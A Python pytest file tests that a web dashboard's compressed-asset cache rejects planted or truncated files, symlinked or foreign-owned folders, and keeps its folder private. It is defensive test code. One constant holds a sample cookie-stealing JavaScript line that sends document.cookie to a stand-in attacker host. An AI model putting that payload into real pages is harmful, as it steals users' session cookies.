"""The compressed-asset cache (web/compression.py) trusts no file it finds: a planted `<sha256>.br` is not served (it
is checked against the content it is named after, then deleted), and a folder that is a symlink or belongs to
someone else is not used at all. A private folder is made 0700."""

from __future__ import annotations

import hashlib
import os
import stat
from pathlib import Path

import brotli
import pytest

from settings import PROJECT_DIR
from web import compression

ASSET_URL = "/assets/lazy/plotly-basic-4.1.1.min.js"
ASSET = PROJECT_DIR / "assets" / "lazy" / "plotly-basic-4.1.1.min.js"
PLANTED_SCRIPT = b"fetch('https://attacker.example/?c=' + document.cookie);" * 20


def use_cache_in(monkeypatch: pytest.MonkeyPatch, directory: Path | None) -> compression.CompressedStatic:
    cache = compression.CompressedStatic(directory)
    monkeypatch.setattr(compression, "STATIC_CACHE", cache)
    return cache


def plant(directory: Path, body: bytes) -> Path:
    """What an attacker sharing /tmp would leave: the right name, their own content."""
    planted = directory / f"{hashlib.sha256(body).hexdigest()}.br"
    planted.write_bytes(brotli.compress(PLANTED_SCRIPT))
    return planted


def served_script(client) -> bytes:
    response = client.get(ASSET_URL, headers={"Accept-Encoding": "br"})
    assert response.status_code == 200 and response.headers["Content-Encoding"] == "br"
    return brotli.decompress(response.data)


def test_a_planted_file_in_the_cache_folder_is_not_served(client, monkeypatch, tmp_path: Path) -> None:
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    body = ASSET.read_bytes()
    planted = plant(folder, body)
    cache = use_cache_in(monkeypatch, folder)
    assert served_script(client) == body
    assert not planted.exists()  # deleted, so the best version is made and kept anew
    best = cache.prepare_now(body)
    assert brotli.decompress(best) == body and brotli.decompress(planted.read_bytes()) == body
    assert stat.S_IMODE(planted.stat().st_mode) == 0o600
    # A new process (a fresh cache object) reads the verified file back and serves it.
    fresh = use_cache_in(monkeypatch, folder)
    assert served_script(client) == body and fresh.items


def test_a_truncated_file_is_not_served_either(client, monkeypatch, tmp_path: Path) -> None:
    body = ASSET.read_bytes()
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    (folder / f"{hashlib.sha256(body).hexdigest()}.br").write_bytes(brotli.compress(body, quality=11)[:-100])
    use_cache_in(monkeypatch, folder)
    assert served_script(client) == body


def test_a_cache_folder_that_is_a_symlink_is_not_used(client, monkeypatch, tmp_path: Path) -> None:
    body = ASSET.read_bytes()
    elsewhere = tmp_path / "attackers"
    elsewhere.mkdir(mode=0o700)
    planted = plant(elsewhere, body)
    link = tmp_path / "cache"
    link.symlink_to(elsewhere)
    cache = use_cache_in(monkeypatch, link)
    assert served_script(client) == body
    cache.prepare_now(body)
    assert planted.exists() and brotli.decompress(planted.read_bytes()) == PLANTED_SCRIPT  # nothing read or written
    assert sorted(path.name for path in elsewhere.iterdir()) == [planted.name]


def test_a_cache_folder_of_another_user_is_not_used(client, monkeypatch, tmp_path: Path) -> None:
    if os.getuid() != 0:
        pytest.skip("making a folder another user owns needs root")
    body = ASSET.read_bytes()
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o777)
    os.chmod(folder, 0o777)
    planted = plant(folder, body)
    os.chown(folder, 12345, 12345)
    os.chown(planted, 12345, 12345)
    cache = use_cache_in(monkeypatch, folder)
    assert served_script(client) == body
    cache.prepare_now(body)
    assert brotli.decompress(planted.read_bytes()) == PLANTED_SCRIPT  # neither read nor replaced


def test_the_default_folder_is_made_private_and_a_wider_mode_is_tightened(monkeypatch, tmp_path: Path) -> None:
    monkeypatch.delenv("KPI_COMPRESSED_CACHE", raising=False)
    default = compression.cache_directory()
    assert default is not None and default.name == f"kpi-dashboard-compressed-{os.getuid()}"
    made = tmp_path / "new" / "cache"
    assert compression.private_directory(made)
    assert stat.S_IMODE(made.stat().st_mode) == 0o700
    os.chmod(made, 0o777)
    assert compression.private_directory(made)
    assert stat.S_IMODE(made.stat().st_mode) == 0o700
    monkeypatch.setenv("KPI_COMPRESSED_CACHE", "")
    assert compression.cache_directory() is None  # empty: memory only


def test_without_a_folder_the_best_version_is_kept_in_memory(client, monkeypatch) -> None:
    body = ASSET.read_bytes()
    cache = use_cache_in(monkeypatch, None)
    best = cache.prepare_now(body)
    response = client.get(ASSET_URL, headers={"Accept-Encoding": "br"})
    assert response.data == best
